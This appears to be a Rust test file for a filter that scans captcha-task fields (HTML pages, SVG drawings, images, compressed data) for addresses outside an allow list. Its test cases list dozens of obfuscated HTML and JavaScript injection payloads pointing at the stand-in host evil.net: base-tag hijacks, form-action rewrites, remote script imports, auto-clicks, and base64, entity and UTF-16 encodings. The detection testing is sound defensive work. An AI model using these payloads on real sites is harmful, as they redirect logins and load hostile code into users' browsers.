//! How pages of HTML, drawings and packed data are searched for addresses.

use super::*;

fn base64(bytes: impl AsRef<[u8]>) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for three in bytes.as_ref().chunks(3) {
        let sum =
            three.iter().fold(0_u32, |sum, byte| sum << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
        for place in 0..4 {
            let dead_letter = LETTERS[(sum >> (18 - 6 * place) & 63) as usize];
            text.push(if place > three.len() { '=' } else { char::from(dead_letter) });
        }
    }
    text
}

fn checked(kind: &str, field: &str, value: &[u8]) -> Result<(), NotAllowed> {
    let allow = vec![HostPattern::parse("*.example.org").unwrap()];
    let operator = Targets { allow, ..Targets::default() };
    let kind = described(kind);
    let fields = [
        TaskField { name: PAGE.0, param: Some(PAGE.0), value: PAGE.1.as_bytes() },
        TaskField { name: field, param: Some(field), value },
    ];
    inspect(&Inspection { step: Step::Send, kind: &kind, fields: &fields, operator: &operator, tenant: None })
}

/// The kinds that have a field for a page of HTML.
const PAGES: &[(&str, &str)] = &[
    ("cloudflare_challenge", "htmlPageBase64"),
    ("cloudflare_challenge", "html"),
    ("datadome", "html"),
    ("datadome", "htmlPageBase64"),
    ("imperva", "html"),
    ("tspd", "html_page_base64"),
];

/// A typical block page: it links to the vendor, to help, to fonts and to pictures elsewhere.
const BLOCK_PAGE: &str = r#"<!DOCTYPE html><html lang="en-US" xmlns="http://www.w3.org/1999/xhtml"><head><title>Just a moment...</title>
<meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width">
<meta property="og:image" content="https://images.example.net/a.png"><link rel="stylesheet" href="https://fonts.googleapis.com/css">
<link rel="canonical" href="https://shop.example.org/login"><base href="/"><link rel="icon" href="//static.example.net/i.ico">
<script>(function(){window._cf_chl_opt={cvId:'3',cZone:"shop.example.org",cUPMDTk:"\/login?__cf_chl_tk=a%2Fb&x=1",fa:"\/x?a=1&amp;b"};
var a=document.createElement('script');a.src='/cdn-cgi/challenge-platform/h/b/orchestrate/chl_page/v1?ray=1';
if(window.history&&window.history.replaceState){var ogU=location.pathname+window._cf_chl_opt.cOgUQuery;history.replaceState(null,null,ogU);}
document.getElementsByTagName('head')[0].appendChild(a);}());</script>
<script>(function(w,d,s,l,i){w[l]=w[l]||[];j.src='https://www.googletagmanager.com/gtm.js?id='+i;})(window);</script></head>
<body><form action="/login?__cf_chl_f_tk=x" method="POST"><img src="https://images.example.net/b.png"></form>
<iframe src="/_Incapsula_Resource?CWUDNSAI=9"></iframe>
<a href="https://www.imperva.com/why-am-i-seeing-this-page/?src=23">Why?</a> <p>See https://help.example.net/ or evil.net.</p>
<!-- served by cache7.example.net --></body></html>"#;

#[test]
fn a_page_of_html_may_link_to_where_it_likes() {
    for (kind, field) in PAGES {
        assert_eq!(checked(kind, field, BLOCK_PAGE.as_bytes()), Ok(()), "{kind} {field}");
        assert_eq!(checked(kind, field, base64(BLOCK_PAGE).as_bytes()), Ok(()), "{kind} {field}");
        let wide: Vec<u8> =
            [0xfeff].into_iter().chain(BLOCK_PAGE.encode_utf16()).flat_map(u16::to_le_bytes).collect();
        assert_eq!(checked(kind, field, base64(wide).as_bytes()), Ok(()), "{kind} {field}");
    }
    // In characters of another alphabet, which are no UTF-8.
    let chinese =
        [b"<html><title>\xc7\xeb\xc9\xd4\xba\xf2".repeat(20), b"<a href=https://a.example.net/>".to_vec()]
            .concat();
    assert_eq!(checked("tspd", "html_page_base64", base64(chinese).as_bytes()), Ok(()));
    // With links enough for more than a text may have.
    let long =
        format!("{BLOCK_PAGE}{}", "<a href=\"https://a.example.net/x?y=%20&amp;z\">a</a>\n".repeat(4000));
    assert_eq!(checked("tspd", "html_page_base64", base64(long).as_bytes()), Ok(()));
}

/// Pages contain text that looks like an address and leads nowhere.
#[test]
fn what_a_page_shows_and_listens_to_leads_nowhere() {
    for part in [
        "<img src=\"https://images.example.net/a.png\" alt=\"\" class=\"important\" onerror=\"this.style.display='none'\">",
        "<a href=\"https://www.imperva.com/why\" onclick=\"report(1)\">Click (here)</a>",
        "<script>document.getElementById('x').addEventListener('click', function () { report() })</script>",
        "<script>document.onclick = function (event) { report(event) }</script>",
        "<script>a.src=\"data:image/png;base64,iVBORw0KGgpodHRwOi8vbnMuYWRvYmUuY29tL3hhcC8xLjAv\"</script>",
        "<script>/*! See https://github.com/a/b */ var a = 1</script>",
        "<script>document.getElementById('f').action += location.hash; document.getElementById('f').submit()</script>",
        "<script>if (f.action == 'x' || a.href === b) { report({ action: 'login', base: 1 }) }</script>",
    ] {
        let page = BLOCK_PAGE.replace("<base href=\"/\">", part);
        assert_eq!(checked("imperva", "html", page.as_bytes()), Ok(()), "{part}");
    }
}

#[test]
fn a_page_of_html_is_no_way_to_pass_a_page() {
    for hidden in [
        "<base href=\"https://evil.net/\">",
        "<BASE\nHREF = https://evil.net/ >",
        "<base/href=//evil.net/>",
        "<base title=\">\" href=\"https://evil.net/\">",
        "<base a\" title=\">\" href=\"https://evil.net/\">",
        "<base href=\"&#104;ttps://evil.net/\">",
        "<base href=\"https&colon;//evil.net/\">",
        "<b\0ase href=\"https://evil.net/\">",
        "<base href='ht\ntps://evil.net/'>",
        "<link rel=\"canonical\" href=\"https://evil.net/login\">",
        "<link href=https://evil.net/login rel=&#99;anonical>",
        "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.net/\">",
        "<meta property=\"og:url\" content=\"https://evil.net/\">",
        "<form action=\"https://evil.net/login\">",
        "<button formaction=\"https://evil.net/login\">",
        "<iframe src=\"https://evil.net/\"></iframe>",
        "<iframe srcdoc=\"<base href=https://evil.net/>\"></iframe>",
        "<object data=\"//evil.net/x\"></object>",
        "<embed src=\"https://evil.net/x\">",
        "<script src=\"https://evil.net/a.js\"></script>",
        "<script>location.href='https://evil.net/'</script>",
        "<script>var a = 'https:\\/\\/evil.net\\/'; window.location = a</script>",
        "<script>window.open(\"https://evil.net/\")</script>",
        "<body onload=\"location='https://evil.net/'\">",
        "<a href=\"javascript:location='https://evil.net/'\">a</a>",
        "<!-- --><base href=https://evil.net/>",
        "<iframe src=https://evil.net/ xmlns=\"http://www.w3.org/1999/xhtml\">",
        "<link rel=prerender href=https://evil.net/>",
        "<a id=a href=https://evil.net/>a</a><script>document.getElementById('a').click()</script>",
        "<a href=https://evil.net/ onfocus=this.cl\\u0069ck() autofocus>a</a>",
        "<script type=module>import \"https://evil.net/x.js\"</script>",
        "<script type=module>import { a } from 'https://evil.net/x.js'</script>",
        "<script type=module>export * from 'https://evil.net/x.js'</script>",
        "<script>import(\"https://evil.net/x.js\")</script>",
        "<script>import (`https://evil.net/x.js`)</script>",
        "<img src=x onerror=import(\"https://evil.net/x.js\")>",
        "<script>var s=document.createElement(\"script\");s.src=\"https://evil.net/x.js\"</script>",
        "<script>var u='https://evil.net/x.js'; s . src = u</script>",
        "<script>s[\"src\"]='https://evil.net/x.js'</script>",
        "<script>s.setAttribute('src','https://evil.net/x.js')</script>",
        "<img src=x onerror=\"a.src='https://evil.net/x.js'\">",
        "<script>new Worker(\"https://evil.net/x.js\")</script>",
        "<script>new SharedWorker (\"https://evil.net/x.js\")</script>",
        "<script>importScripts(\"https://evil.net/y.js\")</script>",
        "<script>document.body.innerHTML=\"\\x3ciframe src=https://evil.net\\x3e\"</script>",
        "<script>a.outerHTML='<iframe src=https://evil.net>'</script>",
        "<script>a.srcdoc='\\u003ca href=https://evil.net>'</script>",
        "<script>a.inner\\u0048TML='https:\\u{2f}\\u{2F}evil.net'</script>",
        "<script>document.write(\"<base href='https://evil.net'>\")</script>",
        "<script>document.writeln ('https://evil.net')</script>",
        "<script>document['write']('https://evil.net')</script>",
        "<a id=q href=https://evil.net/>a</a><script>q.click ()</script>",
        "<a id=q href=https://evil.net/>a</a><script>q.click?.()</script>",
        "<a id=q href=https://evil.net/>a</a><script>q[\"click\"]()</script>",
        "<a id=q href=https://evil.net/>a</a><script>q[`click`] ()</script>",
        "<a id=q href=https://evil.net/>a</a><script>q.click.call(q)</script>",
        "<a id=q href=https://evil.net/>a</a><script>q.dispatchEvent(new MouseEvent('click'))</script>",
        "<a id=q href=https://evil.net/ autofocus onfocus='this.click ()'>a</a>",
        "<script>var a=document.createElement(\"a\");a.href=\"https://evil.net/\";a.click()</script>",
        "<script>var u='https://evil.net/'</script><script>a.href=u;a.click()</script>",
        "<form action=/x></form><script>document.forms[0].action=\"https://evil.net/\";document.forms[0].submit()</script>",
        "<form id=f></form><script>f.action = 'https://evil.net/'</script>",
        "<form id=f></form><script>f['action'] = 'https://evil.net/'</script>",
        "<form id=f></form><script>b.formAction = 'https://evil.net/'</script>",
        "<form id=f></form><script>f.setAttribute(\"action\", \"https://evil.net/\");f.requestSubmit()</script>",
        "<form id=f></form><script>b.setAttribute('formaction', 'https://evil.net/')</script>",
        "<script>var f=document.createElement(\"form\");f.setAttribute(n, 'https://evil.net/');f.submit()</script>",
        "<script>var b=document.createElement(\"base\");b.href=\"https://evil.net/\";document.head.append(b)</script>",
        "<script>var b=document.createElement('base');b.setAttribute('href','https://evil.net/')</script>",
        "<script>document.querySelector(`base`).href='https://evil.net/'</script>",
        "<script>var o=document.createElement('object');o.data='https://evil.net/'</script>",
        "<script>var m=document.createElement(\"meta\");m.httpEquiv=\"refresh\";m.content=\"0;url=https://evil.net/\"</script>",
        "<script>m.setAttribute('http-equiv','refresh');m.setAttribute('content','0;url=https://evil.net/')</script>",
        "<svg><a id=q><animate attributeName=href values='https://evil.net/'/></a></svg><script>q.click()</script>",
        "<iframe src=\"data:text/html;base64,PGEgaHJlZj1odHRwczovL3gvPg==\"></iframe><iframe src=data:text/html;base64,PGJhc2UgaHJlZj1odHRwczovL2V2aWwubmV0Lz4=>",
        "<a id=q href=https://evil.net/>a</a><iframe srcdoc='&lt;script>parent.q.click()&lt;/script>'></iframe>",
    ] {
        for (kind, field) in PAGES {
            let page = BLOCK_PAGE.replace("<base href=\"/\">", hidden);
            // On a page that has nothing else.
            let alone = format!("<!DOCTYPE html><html><head></head><body>{hidden}</body></html>");
            for value in [base64(&page), page, alone] {
                let refused = checked(kind, field, value.as_bytes());
                let is_refused =
                    matches!(&refused, Err(NotAllowed::Vendor { host, .. }) if host == "evil.net");
                assert!(is_refused, "{kind} {field} {hidden}: {refused:?}");
            }
        }
    }
    // Behind the address of a frame or of a script that is its own content.
    for (start, inside, end) in [
        ("<script src=\"data:text/javascript;base64,", "top.location='https://evil.net/'", "\"></script>"),
        ("<iframe src=\"data:text/html;base64,", "<form action=https://evil.net>", "\"></iframe>"),
        ("<iframe src=data:text/html;BASE64&#44;", "<form action=https://evil.net>", "></iframe>"),
        ("<script>a.src='data:text/html;base64,", "<base href=https://evil.net>", "'</script>"),
        ("<script src=\"data:text/javascript,", "import(%22https://evil.net/x.js%22)", "\"></script>"),
    ] {
        let inside = if start.to_lowercase().contains("base64") { base64(inside) } else { inside.to_owned() };
        let page = BLOCK_PAGE.replace("<base href=\"/\">", &format!("{start}{inside}{end}"));
        let refused = checked("datadome", "html", page.as_bytes());
        assert!(
            matches!(&refused, Err(NotAllowed::Vendor { host, .. }) if host == "evil.net"),
            "{page}: {refused:?}"
        );
    }
    // What is no page of HTML is any text.
    for text in ["https://evil.net/", "evil.net", "{\"url\":\"evil.net\"}", "aHR0cHM6Ly9ldmlsLm5ldC8="] {
        for (kind, field) in PAGES {
            assert!(checked(kind, field, text.as_bytes()).is_err(), "{kind} {field} {text}");
        }
    }
    // Elsewhere nothing is known about it.
    for (kind, field) in [("turnstile", "html"), ("turnstile", "htmlPageBase64"), ("yandex", "html")] {
        for value in [BLOCK_PAGE.to_owned(), base64(BLOCK_PAGE)] {
            assert!(
                matches!(checked(kind, field, value.as_bytes()), Err(NotAllowed::Host { .. })),
                "{kind} {field}"
            );
        }
    }
}

#[test]
fn a_page_of_html_without_a_page_beside_it_is_any_text() {
    for (kind, field) in PAGES {
        let alone = inspected(Step::Send, &described(kind), &[(field, BLOCK_PAGE)]);
        assert!(alone.is_err(), "{kind} {field}: {alone:?}");
        let blank = inspected(Step::Send, &described(kind), &[("pageurl", " "), (field, BLOCK_PAGE)]);
        assert!(blank.is_err(), "{kind} {field}: {blank:?}");
    }
}

const DRAWING: &str =
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>é</text><image href=\"https://evil.net/a.png\"/></svg>";

/// A drawing in every encoding that readers of drawings accept.
fn drawings() -> Vec<(&'static str, Vec<u8>)> {
    let utf_16 = || [0xfeff].into_iter().chain(DRAWING.encode_utf16());
    let utf_32 = || ['\u{feff}'].into_iter().chain(DRAWING.chars()).map(u32::from);
    let latin: Vec<u8> = DRAWING.chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect();
    vec![
        ("UTF-8", DRAWING.as_bytes().to_vec()),
        ("UTF-8 with its mark", [b"\xef\xbb\xbf", DRAWING.as_bytes()].concat()),
        ("UTF-16, little end first", utf_16().flat_map(u16::to_le_bytes).collect()),
        ("UTF-16, big end first", utf_16().flat_map(u16::to_be_bytes).collect()),
        ("UTF-16 without its mark", utf_16().skip(1).flat_map(u16::to_be_bytes).collect()),
        ("UTF-32, little end first", utf_32().flat_map(u32::to_le_bytes).collect()),
        ("UTF-32, big end first", utf_32().flat_map(u32::to_be_bytes).collect()),
        ("Latin-1", latin),
    ]
}

#[test]
fn a_drawing_names_its_hosts_in_any_encoding() {
    for (encoding, bytes) in drawings() {
        for (kind, field, value) in [
            ("image", "body", bytes.clone()),
            ("image", "body", base64(&bytes).into_bytes()),
            ("image", "imginstructions", bytes.clone()),
            ("bls", "image_base64_1", base64(&bytes).into_bytes()),
            ("bls", "image_base64_1", format!("data:image/svg+xml;base64,{}", base64(&bytes)).into_bytes()),
            ("brandnew", "picture", bytes.clone()),
            ("brandnew", "picture", base64(&bytes).into_bytes()),
            ("turnstile", "extra", base64(&bytes).into_bytes()),
        ] {
            let refused = checked(kind, field, &value);
            assert!(refused.is_err(), "{encoding} in {kind} {field}: {refused:?}");
        }
        let plain: Vec<u8> = replaced(&bytes, encoding);
        assert_eq!(checked("image", "body", &plain), Ok(()), "{encoding}");
        assert_eq!(checked("image", "body", base64(plain).as_bytes()), Ok(()), "{encoding}");
    }
}

/// A drawing whose host is replaced by one that is listed.
fn replaced(bytes: &[u8], encoding: &str) -> Vec<u8> {
    let spread = |text: &str| -> Vec<u8> {
        let zeros = match encoding {
            "UTF-16, little end first" => (0, 1),
            "UTF-16, big end first" | "UTF-16 without its mark" => (1, 0),
            "UTF-32, little end first" => (0, 3),
            "UTF-32, big end first" => (3, 0),
            _ => (0, 0),
        };
        let one = |byte: u8| [vec![0; zeros.0], vec![byte], vec![0; zeros.1]].concat();
        text.bytes().flat_map(one).collect()
    };
    let (from, to) = (spread("evil.net"), spread("shop.example.org"));
    let at = bytes.windows(from.len()).position(|window| window == from).unwrap();
    [&bytes[..at], &to, &bytes[at + from.len()..]].concat()
}

/// `https://evil.net/`, packed by gzip, by zlib at three levels, and by other formats as far as their first bytes.
const PACKED: &[(&str, &[u8])] = &[
    (
        "gzip",
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03\xcb\x28\x29\x29\x28\xb6\xd2\xd7\x4f\x2d\xcb\xcc\xd1\xcb\x4b\x2d\xd1\x07\x00\x84\xf4\x55\x75\x11\x00\x00\x00",
    ),
    ("zlib", b"\x78\x9c\xcb\x28\x29\x29\x28\xb6\xd2\xd7\x4f\x2d\xcb\xcc\xd1\xcb\x4b\x2d\xd1\x07\x00\x39\x17\x06\x20"),
    ("zlib, strong", b"\x78\xda\xcb\x28\x29\x29\x28\xb6\xd2\xd7\x4f\x2d\xcb\xcc\xd1\xcb\x4b\x2d\xd1\x07\x00\x39\x17\x06\x20"),
    ("zlib, weak", b"\x78\x01\xcb\x28\x29\x29\x28\xb6\xd2\xd7\x4f\x2d\xcb\xcc\xd1\xcb\x4b\x2d\xd1\x07\x00\x39\x17\x06\x20"),
    ("zstd", b"\x28\xb5\x2f\xfd\x04\x00\x89\x00\x00\x68\x74\x74\x70\x73\x3a\x2f\x2f"),
    ("bzip2", b"BZh91AY&SY\x13\x8a\x01\xff\xd8\x00\x00\x04"),
    ("xz", b"\xfd7zXZ\x00\x00\x04\xe6\xd6\xb4\x46\x02\x00\x21\x01"),
    ("zip", b"PK\x03\x04\x14\x00\x00\x00\x08\x00\x21\x00\x00\x00"),
];

#[test]
fn packed_content_is_unpacked_or_refused_with_its_name() {
    for (packer, bytes) in PACKED {
        let in_base64 = base64(bytes);
        let as_dead_letters: String = bytes.iter().copied().map(char::from).collect();
        let in_percent: String = bytes.iter().map(|byte| format!("%{byte:02X}")).collect();
        for (kind, field, value) in [
            ("brandnew", "data", bytes.to_vec()),
            ("brandnew", "data", in_base64.clone().into_bytes()),
            ("brandnew", "data", format!("{{\"a\":[\"{in_base64}\"]}}").into_bytes()),
            ("brandnew", "data", base64(&in_base64).into_bytes()),
            ("brandnew", "data", format!("data:application/octet-stream;base64,{in_base64}").into_bytes()),
            ("brandnew", "data", as_dead_letters.into_bytes()),
            ("brandnew", "data", in_percent.into_bytes()),
            ("turnstile", "extra", in_base64.clone().into_bytes()),
            ("image", "body", bytes.to_vec()),
            ("image", "body", in_base64.clone().into_bytes()),
            ("bls", "image_base64_2", in_base64.clone().into_bytes()),
            ("tspd", "html_page_base64", in_base64.clone().into_bytes()),
        ] {
            let refused = checked(kind, field, &value);
            let is_named = match &refused {
                Err(NotAllowed::Packed { field: named }) => named == field,
                Err(NotAllowed::Host { host, .. } | NotAllowed::Vendor { host, .. }) => {
                    packer.starts_with(['g', 'z']) && host == "evil.net"
                }
                _ => false,
            };
            assert!(
                is_named,
                "{packer} in {kind} {field} {:?}: {refused:?}",
                String::from_utf8_lossy(&value)
            );
        }
    }
    // What only begins like it is not.
    for text in ["x^2 + y^2", "PKCS", "BZh", "eJ", "eJy", "H4sI", "x\u{1}"] {
        assert_eq!(checked("brandnew", "data", text.as_bytes()), Ok(()), "{text}");
    }
}

/// The name of a namespace is not an address in a drawing, nor in the XML inside a picture. In place of a picture it
/// is one.
#[test]
fn an_address_in_place_of_a_picture_is_one_whatever_host_it_names() {
    let rest = "x".repeat(120);
    for host in ["purl.org", "creativecommons.org", "www.w3.org", "ns.adobe.com"] {
        let address = format!("https://{host}/evil/{rest}");
        for bytes in [address.clone().into_bytes(), [address.as_bytes(), b"\xff"].concat()] {
            for (kind, value) in [("image", bytes.clone()), ("brandnew", bytes)] {
                let refused = checked(kind, "body", &value);
                let is_refused =
                    matches!(&refused, Err(NotAllowed::Host { host: named, .. }) if named == host);
                assert!(
                    is_refused || kind == "brandnew" && refused.is_err(),
                    "{kind} {address}: {refused:?}"
                );
            }
        }
        let drawing =
            format!("<svg xmlns=\"http://{host}/ns\"><metadata>http://{host}/terms</metadata></svg>");
        assert_eq!(checked("image", "body", drawing.as_bytes()), Ok(()), "{host}");
    }
    // As a program for pictures writes it: mostly text at its beginning.
    let packet = "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">";
    let head = b"\xff\xd8\xff\xe1\x0b\x00http://ns.adobe.com/xap/1.0/\0";
    let picture = [head, packet.as_bytes(), &b" ".repeat(2000), b"\xff\xda\x00\x80"].concat();
    assert_eq!(checked("image", "body", &picture), Ok(()));
}

/// A picture as a program for pictures writes it, with the names of XML namespaces in it.
fn picture_with_names(more: &str) -> Vec<u8> {
    let names = "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\" x:xmptk=\"paint.net 4.0.21\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><rdf:Description xmlns:xmp=\"http://ns.adobe.com/xap/1.0/\" xmlns:Iptc4xmpCore=\"http://iptc.org/std/Iptc4xmpCore/1.0/xmlns/\"/></rdf:RDF></x:xmpmeta>";
    let head: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x64\0\0\0\x3c\x08\x02\0\0\0";
    let pixels: Vec<u8> = (0..3000_u32).map(|n| ((n * 7919) >> 3).to_le_bytes()[0] | 0x80).collect();
    [head, b"iTXtXML:com.adobe.xmp\0", names.as_bytes(), more.as_bytes(), b"\xfeIDAT", &pixels].concat()
}

/// Trap: `image` accepted such a picture, and a kind without a description refused it for `ns.adobe.com`.
#[test]
fn a_picture_may_name_namespaces_in_a_kind_without_a_description() {
    let picture = picture_with_names("");
    let text = base64(&picture);
    for kind in ["VisionEngine", "ReCaptchaV2Classification", "brandnew"] {
        for value in [
            picture.clone(),
            text.clone().into_bytes(),
            format!("data:image/png;base64,{text}").into_bytes(),
            format!("[\"{text}\",\"{text}\"]").into_bytes(),
        ] {
            assert_eq!(checked(kind, "image", &value), Ok(()), "{kind}");
        }
        // An address that is no name of a namespace counts, and so does what stands beside the picture.
        for hidden in
            [" https://evil.net/ ", " https://ns.adobe.com.evil.net/", "<image href='https://evil.net/'/>"]
        {
            let picture = picture_with_names(hidden);
            let text = base64(&picture);
            for value in [picture, text.clone().into_bytes(), format!("[\"{text}\"]").into_bytes()] {
                assert!(checked(kind, "image", &value).is_err(), "{kind} {hidden}");
            }
        }
        for value in [
            format!("[\"{text}\",\"evil.net\"]"),
            format!("{{\"evil.net\":\"{text}\"}}"),
            format!("{text} evil.net"),
            format!("data:image/png,evil.net;base64,{text}"),
            base64("http://ns.adobe.com/xap/1.0/ xmlns"),
            base64(b"\x89PNG evil.net"),
        ] {
            assert!(checked(kind, "image", value.as_bytes()).is_err(), "{kind} {}", &value[..20]);
        }
    }
    // Of a kind with a description it is known which field is a picture.
    assert!(checked("turnstile", "extra", text.as_bytes()).is_err());
}

/// The page that the widget of reCAPTCHA loads, shortened.
const ANCHOR: &str = r#"<!DOCTYPE HTML><html dir="ltr" lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
<title>reCAPTCHA</title><style type="text/css">@font-face { src: url(//fonts.gstatic.com/s/roboto/v18/KFOmCnqEu92Fr1Mu4mxK.woff2) format('woff2'); }</style>
<link rel="stylesheet" type="text/css" href="https://www.gstatic.com/recaptcha/releases/a/styles__ltr.css">
<script nonce="a" type="text/javascript">window['__recaptcha_api'] = 'https://www.google.com/recaptcha/api2/';</script>
<script type="text/javascript" src="https://www.gstatic.com/recaptcha/releases/a/recaptcha__en.js" nonce="a"></script></head>
<body><input type="hidden" id="recaptcha-token" value="03AGdBq"><script type="text/javascript" nonce="a">
recaptcha.anchor.Main.init("["ainput",["bgdata","Ly93d3cuZ29vZ2xlLmNvbS9qcy9iZy94LmpzCg\u003d"]]");</script></body></html>"#;

#[test]
fn the_page_that_a_widget_loads_is_taken_as_html_and_leads_nowhere_else() {
    for kind in ["recaptcha_v2", "recaptcha_v3"] {
        for value in [ANCHOR.to_owned(), base64(ANCHOR)] {
            assert_eq!(checked(kind, "anchor", value.as_bytes()), Ok(()), "{kind}");
        }
        for hidden in ["<base href=https://evil.net/>", "<script>location='https://evil.net/'</script>"] {
            let page = ANCHOR.replace("<title>", &format!("{hidden}<title>"));
            for value in [page.clone(), base64(page)] {
                assert!(checked(kind, "anchor", value.as_bytes()).is_err(), "{kind} {hidden}");
            }
        }
    }
}

/// Trap: a drawing in a drawing was searched with percent escapes, but not in base64.
#[test]
fn a_drawing_hides_no_host_in_a_document_in_base64() {
    let drawing = |body: &str| {
        format!(
            "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"40\">{body}<text>abc</text></svg>"
        )
    };
    let inner = drawing("<image href=\"https://evil.net/a.png\"/>");
    let wide: Vec<u8> = [0xfeff].into_iter().chain(inner.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    let entity = "<!DOCTYPE svg [<!ENTITY s \"//\">]><svg><image href=\"https:&s;evil.net/\"/></svg>";
    let packed = PACKED[0].1;
    let twice = drawing(&format!("<image href=\"data:image/svg+xml;base64,{}\"/>", base64(&inner)));
    for inside in [
        format!("<image href=\"data:image/svg+xml;base64,{}\"/>", base64(&inner)),
        format!("<image href='data:image/svg+xml;charset=utf-8;base64,{}'/>", base64(&inner)),
        format!("<image href=\"data:image/svg+xml;base64,{}\"/>", base64(wide)),
        format!("<image href=\"data:image/svg+xml;base64,{}\"/>", base64(entity)),
        format!("<image href=\"data:image/svg+xml;base64,{}\"/>", base64(packed)),
        format!("<image href=\"data:image/svg+xml;base64,{}\"/>", base64(twice)),
        format!("<image href=\"data:image/svg+xml&#59;base64&#44;{}\"/>", base64(&inner)),
        format!("<style>rect{{fill:url(data:image/svg+xml;base64,{})}}</style>", base64(&inner)),
        format!("<style>rect{{fill:url(data\\3a image/svg+xml;base64,{})}}</style>", base64(&inner)),
        format!(
            "<style>a{{b:url(data:text/css;base64,YWJj) url(data:image/svg+xml;base64,{})}}</style>",
            base64(&inner)
        ),
        format!(
            "<foreignObject><iframe src=\"data:text/html;base64,{}\"/></foreignObject>",
            base64("<script>location=\"https://evil.net/\"</script>")
        ),
        "<image href=\"data:image/svg+xml,%3Csvg%3E%3Cimage href='https://evil.net/'/%3E%3C/svg%3E\"/>"
            .to_owned(),
    ] {
        let bytes = drawing(&inside);
        for value in [bytes.clone(), base64(&bytes)] {
            let refused = checked("image", "body", value.as_bytes());
            assert!(refused.is_err(), "{inside}: {refused:?}");
        }
    }
    let picture = base64(picture_with_names("<image href='https://images.example.net/'/>"));
    let font =
        base64(b"\0\x01\0\0 name http://www.apache.org/licenses/LICENSE-2.0 and more text to be mostly text");
    for inside in [
        format!("<image href=\"data:image/png;base64,{picture}\"/>"),
        format!("<image href=\"data:image/svg+xml;base64,{}\"/>", base64(drawing("<path d='M0 0'/>"))),
        format!("<style>@font-face{{src:url(data:font/ttf;base64,{font})}}</style>"),
        format!("<style>@font-face{{src:url(data:application/x-font-ttf;base64,{font})}}</style>"),
    ] {
        assert_eq!(checked("image", "body", drawing(&inside).as_bytes()), Ok(()), "{inside}");
    }
}
